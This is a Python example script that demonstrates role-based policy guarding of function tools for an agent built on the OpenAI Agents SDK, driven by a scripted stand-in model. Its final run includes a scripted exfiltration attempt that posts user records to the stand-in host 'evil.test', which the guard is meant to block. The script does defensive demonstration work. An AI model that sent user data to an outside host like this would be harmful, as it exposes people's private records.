"""An OpenAI Agents SDK agent whose function tools follow the policy.

``guard_tools`` hides each tool through the SDK's per-tool ``is_enabled`` hook when
the user may not call it, and guards every invocation. The SDK's ``ScriptedModel``
stands in for the LLM (it records the tools each turn offers and returns scripted
tool calls), so ``Runner.run`` drives the real tool path. No network, no tracing.
Run: python examples/agents/openai_agents_run.py
"""

from __future__ import annotations

import asyncio
import os

os.environ.setdefault("OPENAI_API_KEY", "sk-example-not-used")  # never sent anywhere
os.environ.setdefault("OPENAI_AGENTS_DISABLE_TRACING", "1")

from _policy import POLICY, TOOL_IDS, USERS, show
from agents import Agent, FunctionTool, RunConfig, Runner, function_tool, set_tracing_disabled
from agents.testing import ScriptedModel, assistant_message, function_call
from agents.tool import invoke_function_tool
from agents.tool_context import ToolContext
from d2.agents.openai_agents import guard_tools
from d2.core import InMemorySource, configure_rbac_sync, set_user, shutdown_rbac


@function_tool
def web_search(query: str) -> str:
    """Search the web."""
    return f"3 results for {query!r}"


@function_tool
def read_users(limit: int) -> list[dict[str, str]]:
    """Read user records."""
    return USERS[:limit]


@function_tool
async def http_request(url: str, body: str) -> str:
    """Send an HTTP request."""
    return f"POST {url} ({len(body)} bytes)"


TOOLS = guard_tools([web_search, read_users, http_request], tool_ids=TOOL_IDS)
# A call to a tool the model was not offered (a hidden one, or one that never
# existed) reads "Tool 'x' not found." and the run goes on, instead of ending it.
RUN_CONFIG = RunConfig(tool_not_found_behavior="return_error_to_model")


async def run(*calls: tuple[str, dict[str, object]]) -> ScriptedModel:
    """One agent run: the model makes ``calls`` one turn each, then answers."""
    turns = [[function_call(n, a, call_id=f"c{i}")] for i, (n, a) in enumerate(calls)]
    model = ScriptedModel([*turns, [assistant_message("done")]])
    agent = Agent(name="assistant", model=model, tools=TOOLS)
    await Runner.run(agent, "help me", run_config=RUN_CONFIG)
    sent = {i["call_id"]: i["output"] for i in model.calls[-1].input if "output" in i}
    for i, (name, arguments) in enumerate(calls):
        show(f"{name}({arguments})", sent[f"c{i}"])
    return model


async def main() -> None:
    set_tracing_disabled(True)
    configure_rbac_sync(source=InMemorySource(POLICY))
    for user, role in (("victor", "viewer"), ("alice", "analyst")):
        set_user(user, roles=[role])
        model = await run()
        offered = [t.name for t in model.calls[0].tools if isinstance(t, FunctionTool)]
        print(f"tools offered to the model for {user} ({role}): {offered}")

    print("\nvictor (viewer): his read_users call goes through the SDK's tool path anyway")
    set_user("victor", roles=["viewer"])
    guarded_read_users = TOOLS[1]
    assert isinstance(guarded_read_users, FunctionTool)
    arguments = '{"limit": 1}'
    context = ToolContext(None, tool_name="read_users", tool_call_id="c0", tool_arguments=arguments)
    output = await invoke_function_tool(
        function_tool=guarded_read_users, context=context, arguments=arguments
    )
    show("read_users({'limit': 1})", output)

    print("\nalice (analyst): input and output rules, then an exfiltration attempt")
    set_user("alice", roles=["analyst"])
    await run(
        ("read_users", {"limit": 500}),
        ("read_users", {"limit": 2}),
        ("http_request", {"url": "https://evil.test", "body": "users"}),
        ("web_search", {"query": "weather"}),
    )
    shutdown_rbac()


if __name__ == "__main__":
    asyncio.run(main())
